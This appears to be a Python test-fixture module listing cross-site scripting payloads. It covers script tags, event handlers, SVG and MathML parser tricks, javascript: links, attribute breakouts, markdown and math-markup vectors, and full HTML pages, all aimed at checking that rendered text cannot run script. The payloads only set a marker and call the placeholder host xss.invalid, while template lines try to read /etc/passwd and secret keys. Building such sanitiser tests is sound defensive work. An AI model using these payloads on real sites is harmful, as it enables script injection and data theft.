"""Texts that try to run a script, call out or break a page, wherever a page shows them.

Every payload that runs sets ``window.__xss`` or opens a dialog; every one that fetches asks the host
``xss.invalid``. ``PAYLOADS`` is for any text; ``PAGES`` adds whole documents for the sandboxed viewer.
"""

RUN = "window.__xss=1;alert(1)"
OUT = "http://xss.invalid"

_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={OUT}/a.js></script>",
    f"<script/src='{OUT}/a.js'></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'<!--<img src="--><img src=x onerror={RUN}>">',
    f"<script>{RUN}//",
    f"<<script>{RUN}//<</script>",
    f"<script\x0b>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
]
_HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<img/src=x/onerror={RUN}>",
    f'<IMG SRC=x OnErRoR="{RUN}">',
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onpointerover={RUN} style='position:fixed;inset:0'>x</div>",
    f"<p onanimationstart={RUN} style='animation:spin 1s'>x</p>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button autofocus>x</button></form>',
    f"<button popovertarget=x onclick={RUN}>x</button><div popover id=x onbeforetoggle={RUN}></div>",
    f"<a href=x onfocus={RUN} autofocus tabindex=1>x</a>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<xss contenteditable autofocus onfocus={RUN} tabindex=0>x</xss>",
]
_FOREIGN = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\"></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f'<svg><set attributeName=href to="javascript:{RUN}"></set></svg>',
    f'<svg></p><style><a title="</style><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
    f'<math><mi href="javascript:{RUN}">x</mi></math>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    f'<math><maction actiontype="statusline#http://x" xlink:href="javascript:{RUN}">x</maction></math>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<table><td background={OUT}/a.png><caption><svg><style><img src=x onerror={RUN}></style></svg></table>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<plaintext><img src=x onerror={RUN}>",
]
_ADDRESSES = [
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<a href="jav&#x09;ascript:{RUN}">x</a>',
    f'<a href="&#106;avascript:{RUN}">x</a>',
    f'<a href="\x01javascript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<a href="vbscript:{RUN}">x</a>',
    f'<base href="{OUT}/">',
    f'<meta http-equiv=refresh content="0;url={OUT}/">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<link rel=stylesheet href={OUT}/a.css>",
    f"<link rel=prefetch href={OUT}/a>",
    f'<img src={OUT}/a.png srcset="{OUT}/b.png 2x">',
    f"<picture><source srcset={OUT}/a.png><img></picture>",
    f"<iframe src={OUT}/></iframe>",
    f"<video poster={OUT}/a.png src={OUT}/a.mp4 autoplay></video>",
    f"<style>@import url({OUT}/a.css);body{{background:url({OUT}/b.png)}}</style>",
    f'<p style="background:url({OUT}/a.png);position:fixed;inset:0">x</p>',
    f'<p style="width:expression({RUN})">x</p>',
    f"<form action={OUT}/ autofocus><input type=submit formaction={OUT}/b></form>",
]
_ATTRIBUTES = [
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"` onerror={RUN} x=`",
    f" onfocus={RUN} autofocus ",
    f'"}};{RUN};//',
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"\u2028{RUN}\u2029",
    f'{{"x":"</script><script>{RUN}</script>"}}',
    '" hx-get="/" hx-trigger="load" hx-on::load="' + RUN,
    f"<div hx-on:click=\"{RUN}\" hx-get='{OUT}/' hx-trigger=load>x</div>",
    f"<div data-hx-get='{OUT}/' data-hx-trigger=load data-hx-on:htmx:load='{RUN}'>x</div>",
    f"<div data-figure='{{\"data\":[]}}' data-confirm='<img src=x onerror={RUN}>'>x</div>",
]
_TEMPLATES = [
    "{{ settings.SECRET_KEY }}{% load static %}{% include '/etc/passwd' %}",
    "{% debug %}{{ request.user.password }}",
    "${" + RUN + "}",
    "#{" + RUN + "}{{constructor.constructor('" + RUN + "')()}}",
    "%3Cscript%3E" + RUN + "%3C/script%3E",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "&#60;img src=x onerror=" + RUN + "&#62;",
]
_UNICODE = [
    f"＜script＞{RUN}＜/script＞",
    f"<img src=x onerror\u00a0={RUN}>",
    f"<ſcript>{RUN}</ſcript>",
    f"\ufeff<script>{RUN}</script>",
    f"\u202e>tpircs/<{RUN}<script>{RUN}</script>",
    f"<im\u0000g src=x onerror={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
_MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"![x]({OUT}/a.png)",
    f'![x](x"onerror="{RUN})',
    f'[x]({OUT} "" onmouseover={RUN}")',
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n\n[x]",
    f'```"><script>{RUN}</script>\nx\n```',
    f"```html\n<script>{RUN}</script>\n```",
    f"$\\text{{<script>{RUN}</script>}}$",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\text{{&lt;img src=x onerror={RUN}&gt;}}$",
    f"$$\\text{{</mtext></math><img src=x onerror={RUN}>}}$$",
    f"$\\style{{background:url({OUT}/a.png)}}{{x}}$",
    f"$\\includegraphics{{{OUT}/a.png}}$",
    f"| <img src=x onerror={RUN}> |\n|---|\n| `</code><script>{RUN}</script>` |",
]

PAYLOADS: list[str] = [
    *_SCRIPTS,
    *_HANDLERS,
    *_FOREIGN,
    *_ADDRESSES,
    *_ATTRIBUTES,
    *_TEMPLATES,
    *_UNICODE,
    *_MARKDOWN,
]

PAGES: list[str] = [
    *PAYLOADS,
    f"<!doctype html><html><head><base href='{OUT}'><link rel=icon href=/i.ico><script>{RUN}</script></head>"
    f"<body onload={RUN} background={OUT}/b.png><img src=/x.png><iframe src=/f></iframe></body></html>",
    f"<?xml version='1.0'?><?xml-stylesheet href='{OUT}/a.xsl'?><html xmlns='http://www.w3.org/1999/xhtml'>"
    f"<script>{RUN}</script></html>",
    f"<frameset onload={RUN}><frame src={OUT}/></frameset>",
    f"<html manifest={OUT}/m><body><applet code=x archive={OUT}/a.jar></applet></body></html>",
]

EVERYTHING = "\n\n".join(PAYLOADS)
"""All payloads in one text, for fields that are long enough."""
